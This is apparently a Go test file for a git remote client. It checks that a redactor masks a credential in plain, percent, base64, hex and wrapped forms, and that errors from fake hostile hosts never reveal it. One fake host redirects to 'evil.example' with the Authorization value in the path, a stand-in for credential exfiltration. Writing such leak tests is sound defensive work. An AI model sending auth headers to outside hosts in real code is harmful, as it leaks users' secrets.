package remote

import (
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

func TestNoEncodingOfTheCredentialIsShown(t *testing.T) {
	for _, secret := range []string{"ghp_Sesame0123456789abcdef", `p"a/ss?w+or&d<1>`, "pässwörd=="} {
		var r redactor
		r.add(secret)
		basic := base64.StdEncoding.EncodeToString([]byte("git:" + secret))
		shown := map[string]string{
			"plain":             secret,
			"upper case":        strings.ToUpper(secret),
			"percent":           url.QueryEscape(secret),
			"path":              url.PathEscape(secret),
			"lower percent":     strings.ToLower(url.QueryEscape(secret)),
			"basic":             basic,
			"basic, other user": base64.StdEncoding.EncodeToString([]byte("someone:" + secret)),
			"alone":             base64.StdEncoding.EncodeToString([]byte(secret)),
			"URL alphabet":      base64.URLEncoding.EncodeToString([]byte("x:" + secret)),
			"no padding":        base64.RawStdEncoding.EncodeToString([]byte("xy:" + secret)),
			"glued":             "abc" + basic,
			"wrapped":           basic[:10] + "\n  " + basic[10:20] + "\r\n" + basic[20:],
			"wrapped plain":     secret[:5] + "\n" + secret[5:],
			"in JSON":           fmt.Sprintf(`{"authorization": "Basic %s"}`, basic),
			"percent of basic":  url.QueryEscape(basic),
			"quoted":            fmt.Sprintf("%q", secret),
			"hexadecimal":       hex.EncodeToString([]byte(secret)),
			"in an address":     "https://git:" + url.PathEscape(secret) + "@git.example/x",
		}
		for name, text := range shown {
			got := r.clean("bad credentials: " + text + "; try again")
			if !strings.HasPrefix(got, "bad credentials: ") || !strings.HasSuffix(got, "; try again") || !strings.Contains(got, "…") {
				t.Errorf("%s of %q became %q", name, secret, got)
			}
		}
	}
	var r redactor
	r.add("ghp_Sesame0123456789abcdef", "abc")
	text := "remote: error: GH006: Protected branch update failed for refs/heads/main.\nabc sesame 5L2g5aW9\n"
	if got := r.clean(text); got != text {
		t.Errorf("an innocent text became %q", got)
	}
}

// A host may say what it got, in any of its ways to say something.
func TestWhatAHostSaysOfTheCredentialIsNotShown(t *testing.T) {
	const secret = "ghp_Sesame0123456789abcdef"
	for name, handle := range map[string]http.HandlerFunc{
		"a body": func(w http.ResponseWriter, r *http.Request) {
			http.Error(w, "bad credentials: "+r.Header.Get("Authorization"), http.StatusForbidden)
		},
		"the protocol": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
			line := "ERR you sent " + r.Header.Get("Authorization")
			_, _ = fmt.Fprintf(w, "%04x%s", len(line)+4, line)
		},
		"a redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/"+strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "), http.StatusFound)
		},
		"nonsense": func(w http.ResponseWriter, r *http.Request) {
			_, _ = io.WriteString(w, "00zz"+r.Header.Get("Authorization"))
		},
	} {
		host := newFakeHost(t, handle)
		_, err := mustRemote(t, Config{URL: host.URL + "/blog.git", Password: secret}).Fetch(t.Context())
		if err == nil {
			t.Fatalf("%s: no error", name)
		}
		for e := err; e != nil; e = errors.Unwrap(e) {
			if text := fmt.Sprintf("%v %+v %#v", e, e, e.Error()); strings.Contains(text, secret) ||
				strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("git:"+secret))) {
				t.Errorf("%s: %s", name, text)
			}
		}
	}
}
